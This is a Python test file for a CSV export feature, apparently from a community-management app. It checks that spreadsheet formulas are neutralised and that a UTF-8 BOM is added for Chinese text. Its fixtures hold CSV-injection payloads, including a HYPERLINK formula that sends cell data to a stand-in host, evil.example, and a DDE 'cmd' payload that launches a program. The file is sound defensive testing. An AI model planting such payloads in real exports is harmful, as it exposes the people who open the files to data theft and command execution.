"""CSV exports are safe to open in a spreadsheet: formulas are neutralised, and a BOM lets Excel read Chinese."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from typer.testing import CliRunner

from fangkong.app import create_app
from fangkong.core.crypto import Keyring
from fangkong.core.exporting import UTF8_BOM, csv_text, safe_cell
from fangkong.core.runtime import Runtime
from fangkong.people.models import Person

from ..support.factories import city_with_tokens
from ..support.personas import CHEN
from ..support.web import as_, run

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
CMD = "+cmd|' /C calc'!A0"


@pytest.fixture
def tokens(runtime: Runtime, keys: Keyring) -> dict[str, str]:
    tokens = city_with_tokens(runtime, keys)
    with runtime.database.unit_of_work() as db:
        db.execute(update(Person).where(Person.ref == "li-qiang").values(name=HYPERLINK, address=CMD))
        db.execute(update(Person).where(Person.ref == "wang-fang").values(name="@SUM(1+1)", address="-2+3"))
    return tokens


@pytest.fixture
def client(runtime: Runtime) -> Iterator[TestClient]:
    with TestClient(create_app(runtime)) as c:
        yield c


def _rows(text: str) -> dict[str, dict[str, str]]:
    assert text.startswith(UTF8_BOM)
    return {row["ref"]: row for row in csv.DictReader(io.StringIO(text.removeprefix(UTF8_BOM)))}


def _assert_neutralised(rows: dict[str, dict[str, str]]) -> None:
    assert (rows["li-qiang"]["name"], rows["li-qiang"]["address"]) == ("'" + HYPERLINK, "'" + CMD)
    assert (rows["wang-fang"]["name"], rows["wang-fang"]["address"]) == ("'@SUM(1+1)", "'-2+3")


def test_the_api_export_neutralises_formulas_and_starts_with_a_bom(client: TestClient, tokens: dict[str, str]) -> None:
    export = client.get("/api/people/export.csv", params={"purpose": "网格台账"}, headers=as_(tokens, CHEN))
    assert export.status_code == 200
    assert export.content.startswith(UTF8_BOM.encode())
    _assert_neutralised(_rows(export.content.decode("utf-8")))


def test_the_cli_export_neutralises_formulas_and_starts_with_a_bom(cli: CliRunner, tokens: dict[str, str]) -> None:
    exported = run(cli, "person", "export", "--as", CHEN.username, "--purpose", "ledger")
    assert exported.exit_code == 0
    _assert_neutralised(_rows(exported.stdout))


def test_the_shared_writer_quotes_every_formula_start_and_keeps_chinese() -> None:
    for cell in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert safe_cell(cell) == "'" + cell
    for cell in ("王芳", "a=b", "138****5678", "", None, 42):
        assert safe_cell(cell) == ("" if cell is None else str(cell))
    text = csv_text(("name",), [("李强",), ("=1",)])
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert text.removeprefix(UTF8_BOM).splitlines() == ["name", "李强", "'=1"]
